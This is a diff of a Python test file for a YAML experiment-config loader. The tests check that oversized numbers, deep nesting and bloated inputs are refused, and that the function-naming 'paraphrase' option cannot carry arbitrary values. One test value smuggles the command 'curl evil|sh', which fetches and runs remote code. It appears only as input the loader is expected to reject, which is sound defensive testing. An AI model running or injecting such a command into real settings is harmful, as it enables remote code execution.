@@ -7,7 +7,14 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from tfllmrec import config as configs
-from tfllmrec.config import ExperimentConfig, contradictions, dump_config, load_config, parse_config
+from tfllmrec.config import (
+    ExperimentConfig,
+    contradictions,
+    dump_config,
+    load_config,
+    paraphrase_option,
+    parse_config,
+)
 from tfllmrec.errors import ConfigError
 
 CONFIGS = sorted((Path(__file__).parents[1] / "configs").glob("*.yaml"))
@@ -208,6 +215,10 @@ MERGED = "a0: &a0 {k: 1}\n" + "".join(f"a{i}: &a{i} {{<<: [{', '.join([f'*a{i - 
         ("\n".join(" " * depth + "a:" for depth in range(100)), "expected at most 16 levels of values"),
         ("? " * 100 + "a", "expected at most 16 levels of values"),
         ("seed: 1 #" + "x" * 1_000_000, "expected at most 1,000,000 bytes of YAML"),
+        (f"training: {{epochs: 1{':1' * 500}}}", r"line 1, column 20: expected a number of at most 1,000 characters"),
+        (f"training: {{learning_rate: 1{':1' * 500}.5}}", "expected a number of at most 1,000 characters"),
+        (f"seed: !!int '1{':1' * 500}'", "expected a number of at most 1,000 characters"),
+        (f"? 0x{'f' * 1000}\n: 1", "expected a number of at most 1,000 characters"),
     ],
 )
 def test_a_file_that_stands_for_far_more_than_a_config_is_refused(tmp_path, text, said):
@@ -223,6 +234,13 @@ def test_very_many_values_without_any_alias_are_refused(tmp_path, monkeypatch):
 def test_a_setting_that_is_too_large_is_refused_as_well():
     with pytest.raises(ConfigError, match=r"--set evaluation\.ks=.* levels"):
         parse_config({}, ["evaluation.ks=" + "[" * 100])
+    with pytest.raises(ConfigError, match=r"--set seed=.* expected a number of at most 1,000 characters"):
+        parse_config({}, [f"seed=1{':1' * 500}"])
+
+
+def test_numbers_of_ordinary_length_and_long_texts_are_read(tmp_path):
+    read = config(tmp_path, f"seed: 1:30\ndata: {{name: {'1x' * 5000}, encoding: '{'1' * 5000}'}}")
+    assert (read.seed, read.data.name, read.data.encoding) == (1 * 60 + 30, "1x" * 5000, "1" * 5000)
 
 
 def test_aliases_of_ordinary_size_are_read(tmp_path):
@@ -244,13 +262,26 @@ PARAPHRASE = "tuning: {paraphrase: 'words:back_and_forth'}"
 
 def test_no_file_may_name_a_function_to_call(tmp_path):
     said = refusal(tmp_path, PARAPHRASE)
-    assert "a.yaml sets tuning.paraphrase to 'words:back_and_forth'" in said
+    assert "a.yaml sets tuning.paraphrase to words:back_and_forth, " in said
     assert "--set tuning.paraphrase=words:back_and_forth" in said
     for named in ("words:back_and_forth", "null", "other:function"):
         value = config(tmp_path, PARAPHRASE, f"tuning.paraphrase={named}").tuning.paraphrase
         assert value == (None if named == "null" else named)
     assert config(tmp_path, "", "tuning.paraphrase=a:b").tuning.paraphrase == "a:b"
     assert "may not do that" in refusal(tmp_path, PARAPHRASE, "tuning.rank=4")
+    for text in ("", PARAPHRASE):
+        assert config(tmp_path, text, "tuning={paraphrase: 'a:b'}").tuning.paraphrase == "a:b"
+
+
+@pytest.mark.parametrize("value", ["'a:b; curl evil|sh'", "[a:b, a:b]", "3"])
+def test_no_command_contains_a_value_that_is_no_function(tmp_path, value):
+    said = refusal(tmp_path, f"tuning: {{paraphrase: {value}}}")
+    assert said.startswith(f"{tmp_path}/a.yaml: tuning.paraphrase: expected ") and "--set" not in said
+
+
+def test_a_command_allows_the_call_of_a_function():
+    assert paraphrase_option("words:again") == " --set tuning.paraphrase=words:again"
+    assert paraphrase_option(None) == ""
 
 
 def test_the_config_of_a_run_records_it(tmp_path):
